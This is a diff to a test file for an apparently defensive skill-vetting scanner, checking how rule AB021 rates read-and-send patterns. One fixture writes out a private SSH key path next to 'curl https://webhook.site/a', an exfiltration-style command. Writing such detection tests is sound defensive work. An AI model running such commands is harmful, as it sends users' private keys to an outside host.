@@ -5,7 +5,7 @@ import pytest
 from apexbridge.vetting.examine import examine
 from apexbridge.vetting.material import Material
 from apexbridge.vetting.rulebook import Level
-from tests.vetting.examples import described, fronted, python, shell, skill
+from tests.vetting.examples import LONG_BODY, described, fronted, python, shell, skill
 
 
 def level_of(rule: str, material: Material) -> Level | None:
@@ -78,7 +78,7 @@ def test_reading_and_sending_in_a_reference_or_a_lesson_weighs_less() -> None:
     front = "---\nname: a\ndescription: Teaches security.\n---\n"
     assert level_of("AB021", shell(command)) == "block"
     assert level_of("AB021", skill(references__a_DOT_md=block)) == "warn"
-    assert level_of("AB021", skill(block, front=front)) == "review"
+    assert level_of("AB021", skill(f"{LONG_BODY}{block}", front=front)) == "review"
     drop = f"{command}\n# comment with ~/.ssh/id_rsa\ncurl https://webhook.site/a\n"
     assert level_of("AB021", skill(scripts__a_DOT_sh=drop)) == "block"
 
